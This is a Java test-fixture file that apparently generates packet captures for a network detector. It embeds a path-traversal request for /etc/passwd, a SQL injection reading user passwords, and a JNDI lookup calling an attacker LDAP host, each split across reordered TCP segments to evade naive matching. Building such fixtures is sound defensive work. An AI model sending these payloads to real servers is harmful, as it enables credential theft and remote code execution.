package io.wirecut.perf.traffic;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Supplier;

/// The captures under `perf/captures`: an attack each, with innocent traffic around it, and
/// innocent traffic alone. Addresses are those set aside for documentation (RFC 5737, RFC 3849).
final class SampleCaptures {
    private static final String SHOP = "192.0.2.80";
    private static final String VISITOR = "198.51.100.23";
    private static final String ATTACKER = "198.51.100.66";
    private static final String RESOLVER = "192.0.2.53";
    private static final String SHOP_6 = "2001:db8:80::80";
    private static final String VISITOR_6 = "2001:db8:23::23";
    private static final String ATTACKER_6 = "2001:db8:66::66";
    private static final int HTTP = 80;
    private static final int DNS = 53;
    private static final int TLS = 443;
    private static final int OUTER_VLAN = 7;
    private static final int VLAN = 42;
    private static final long THINKING_NS = 40_000_000L;

    private static final String PAGE =
            """
            HTTP/1.1 200 OK\r
            Server: shop\r
            Content-Type: text/html\r
            Content-Length: 66\r
            \r
            <html><body><h1>Lamps and chairs</h1><p>Welcome!</p></body></html>\
            """;
    private static final String NOT_FOUND =
            """
            HTTP/1.1 404 Not Found\r
            Server: shop\r
            Content-Length: 0\r
            \r
            """;

    /// `/../../../../etc/passwd` begins in the second segment and ends in the sixth.
    private static final String TRAVERSAL =
            """
            GET /cgi-bin/view.cgi?page=/../../../../etc/passwd HTTP/1.1\r
            Host: shop.example\r
            User-Agent: curl/8.5.0\r
            Accept: */*\r
            \r
            """;

    private static final int[] TRAVERSAL_CUTS = {20, 29, 34, 40, 46, 60};
    private static final int[] TRAVERSAL_ORDER = {0, 3, 1, 5, 2, 6, 4};

    private static final String INJECTION =
            """
            GET /item?id=1%27%20uNiOn%20sElEcT%20name,password%20FROM%20users-- HTTP/1.1\r
            Host: shop.example\r
            User-Agent: sqlmap/1.8\r
            \r
            """;
    private static final int[] INJECTION_CUTS = {18, 27};
    private static final int[] INJECTION_ORDER = {0, 2, 1};

    private static final String JNDI =
            """
            GET / HTTP/1.1\r
            Host: shop.example\r
            User-Agent: ${jndi:ldap://198.51.100.66:1389/a}\r
            Accept: */*\r
            \r
            """;
    private static final int[] JNDI_CUTS = {49, 54};
    private static final int[] JNDI_ORDER = {2, 1, 0};

    /// Application data, as after a handshake.
    private static final String TLS_RECORD = "17 0303 0020" + "a55ac33c".repeat(8);

    private SampleCaptures() {}

    /// Every capture by its file name.
    private static Map<String, Supplier<Traffic>> all() {
        Map<String, Supplier<Traffic>> captures = new LinkedHashMap<>();
        captures.put("split-attack.pcap", SampleCaptures::splitAttack);
        captures.put("vlan-attack.pcap", SampleCaptures::vlanAttack);
        captures.put("ipv6-attack.pcap", SampleCaptures::ipv6Attack);
        captures.put("innocent.pcap", SampleCaptures::innocent);
        return captures;
    }

    /// Writes every capture, and returns how many there are.
    ///
    /// @throws io.wirecut.pipeline.source.CaptureException if one cannot be written
    static int writeTo(Path folder) {
        Map<String, Supplier<Traffic>> captures = all();
        captures.forEach((name, traffic) -> traffic.get().writeTo(folder.resolve(name)));
        return captures.size();
    }

    private static Traffic splitAttack() {
        Traffic traffic = new Traffic();
        FrameCrafter crafter = new FrameCrafter();
        browse(traffic, crafter, VISITOR, SHOP, 50_100);
        new TcpConversation(
                        traffic,
                        crafter,
                        Endpoint.of(ATTACKER, 40_112),
                        Endpoint.of(SHOP, HTTP),
                        0xFFFF_FFE0,
                        0x1000_0000)
                .open()
                .fromClient(TRAVERSAL, TRAVERSAL_CUTS, TRAVERSAL_ORDER)
                .fromServer(NOT_FOUND)
                .close();
        lookUp(traffic, crafter, "shop");
        browse(traffic, crafter, VISITOR, SHOP, 50_101);
        return traffic;
    }

    private static Traffic vlanAttack() {
        Traffic traffic = new Traffic();
        FrameCrafter crafter = new FrameCrafter(OUTER_VLAN, VLAN);
        browse(traffic, crafter, VISITOR, SHOP, 50_200);
        new TcpConversation(
                        traffic,
                        crafter,
                        Endpoint.of(ATTACKER, 40_250),
                        Endpoint.of(SHOP, HTTP),
                        7_000,
                        9_000)
                .open()
                .fromClient(INJECTION, INJECTION_CUTS, INJECTION_ORDER)
                .fromServer(NOT_FOUND)
                .close();
        lookUp(traffic, crafter, "dropper");
        return traffic;
    }

    private static Traffic ipv6Attack() {
        Traffic traffic = new Traffic();
        FrameCrafter crafter = new FrameCrafter();
        browse(traffic, crafter, VISITOR_6, SHOP_6, 50_300);
        new TcpConversation(
                        traffic,
                        crafter,
                        Endpoint.of(ATTACKER_6, 40_366),
                        Endpoint.of(SHOP_6, HTTP),
                        0x7FFF_FFF0,
                        0x2000_0000)
                .open()
                .fromClient(JNDI, JNDI_CUTS, JNDI_ORDER)
                .fromServer(NOT_FOUND)
                .close();
        return traffic;
    }

    /// With what looks like an attack at first sight: parts of patterns, patterns in the wrong
    /// place, a part of one in each of two conversations.
    private static Traffic innocent() {
        Traffic traffic = new Traffic();
        FrameCrafter crafter = new FrameCrafter();
        FrameCrafter tagged = new FrameCrafter(VLAN);
        browse(traffic, crafter, VISITOR, SHOP, 50_400);
        browse(traffic, tagged, VISITOR, SHOP, 50_401);
        browse(traffic, crafter, VISITOR_6, SHOP_6, 50_402);
        lookUp(traffic, crafter, "shop");
        request(
                traffic,
                crafter,
                50_403,
                "GET /docs/../etc/passwords.html HTTP/1.1\r\nHost: shop.example\r\n\r\n");
        request(traffic, crafter, 50_404, "GET /help/union%20selection HTTP/1.1\r\n\r\n");
        request(traffic, crafter, 50_405, "GET /cgi-bin/view.cgi?page=/../../");
        request(
                traffic,
                crafter,
                50_406,
                "../../etc/passwd HTTP/1.1\r\nHost: shop.example\r\n\r\n");
        new TcpConversation(
                        traffic,
                        crafter,
                        Endpoint.of(VISITOR, 50_407),
                        Endpoint.of(SHOP, TLS),
                        11,
                        12)
                .open()
                .fromClient(bytes(TLS_RECORD))
                .fromServer(bytes(TLS_RECORD.repeat(80)))
                .close();
        return traffic;
    }

    private static void browse(
            Traffic traffic, FrameCrafter crafter, String client, String server, int port) {
        new TcpConversation(
                        traffic,
                        crafter,
                        Endpoint.of(client, port),
                        Endpoint.of(server, HTTP),
                        port * 1_000,
                        port * 2_000)
                .open()
                .fromClient(
                        "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
                .fromServer(PAGE)
                .close();
        traffic.pause(THINKING_NS);
    }

    private static void request(Traffic traffic, FrameCrafter crafter, int port, String text) {
        new TcpConversation(
                        traffic,
                        crafter,
                        Endpoint.of(VISITOR, port),
                        Endpoint.of(SHOP, HTTP),
                        port * 1_000,
                        port * 2_000)
                .open()
                .fromClient(text)
                .fromServer(NOT_FOUND)
                .close();
        traffic.pause(THINKING_NS);
    }

    /// A query for the address of `NAME.example`, and the answer 192.0.2.80.
    private static void lookUp(Traffic traffic, FrameCrafter crafter, String name) {
        String question = (char) name.length() + name + "\u0007example\0" + bytes("0001 0001");
        Endpoint client = Endpoint.of(VISITOR, 53_053);
        Endpoint resolver = Endpoint.of(RESOLVER, DNS);
        String query = bytes("1234 0100 0001 0000 0000 0000") + question;
        String answer =
                bytes("1234 8180 0001 0001 0000 0000")
                        + question
                        + bytes("c00c 0001 0001 0000012c 0004 c0000250");
        traffic.add(crafter.udp(client, resolver, query.getBytes(StandardCharsets.ISO_8859_1)));
        traffic.add(crafter.udp(resolver, client, answer.getBytes(StandardCharsets.ISO_8859_1)));
        traffic.pause(THINKING_NS);
    }

    private static String bytes(String hex) {
        return new String(
                HexFormat.of().parseHex(hex.replace(" ", "")), StandardCharsets.ISO_8859_1);
    }
}
